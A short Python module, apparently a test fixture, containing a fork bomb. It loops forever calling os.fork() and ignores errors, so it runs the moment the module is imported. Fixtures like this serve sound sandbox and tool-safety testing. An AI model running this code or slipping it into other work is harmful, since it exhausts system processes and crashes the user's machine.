"""A fork bomb at import time."""
# ruff: noqa
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
